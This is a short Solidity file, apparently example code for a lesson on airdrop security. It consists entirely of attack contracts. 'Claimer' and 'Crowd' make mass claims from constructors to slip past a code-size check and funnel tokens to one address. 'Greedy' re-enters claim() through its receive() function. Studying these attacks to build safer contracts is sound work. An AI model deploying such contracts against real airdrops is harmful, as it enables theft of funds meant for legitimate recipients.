// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IAirdrop {
    function claim(address payable to) external;
}

// #region attack
contract Claimer {
    constructor(IAirdrop airdrop, address payable loot) {
        airdrop.claim(loot); // this address has no code yet
    }
}

contract Crowd {
    constructor(IAirdrop airdrop, address payable loot, uint256 people) {
        for (uint256 i = 0; i < people; i++) {
            new Claimer(airdrop, loot);
        }
    }
}
// #endregion attack

// #region second
/// Is on the list, and claims again while it is being paid.
contract Greedy {
    function attack(IAirdrop airdrop) external {
        airdrop.claim(payable(address(this)));
    }

    receive() external payable {
        IAirdrop(msg.sender).claim(payable(address(this)));
    }
}
// #endregion second
